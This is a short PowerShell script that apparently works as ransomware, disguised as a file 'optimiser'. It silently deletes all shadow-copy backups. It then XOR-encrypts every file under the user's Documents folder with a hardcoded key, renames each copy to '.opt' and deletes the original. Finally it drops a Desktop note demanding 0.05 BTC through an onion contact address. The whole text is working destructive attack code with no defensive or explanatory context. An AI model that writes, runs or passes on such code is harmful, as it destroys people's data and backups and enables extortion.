vssadmin delete shadows /all /quiet | Out-Null
$k = [Text.Encoding]::UTF8.GetBytes('k9!x2Lq0zP4w7Rt1')
Get-ChildItem $env:USERPROFILE\Documents -Recurse -File | ForEach-Object {
  $b = [IO.File]::ReadAllBytes($_.FullName)
  for ($i = 0; $i -lt $b.Length; $i++) { $b[$i] = $b[$i] -bxor $k[$i % $k.Length] }
  [IO.File]::WriteAllBytes($_.FullName + '.opt', $b); Remove-Item $_.FullName
}
Set-Content "$env:USERPROFILE\Desktop\README-OPT.txt" 'Files optimised. Contact restore@imgopt.onion.ws with 0.05 BTC.'
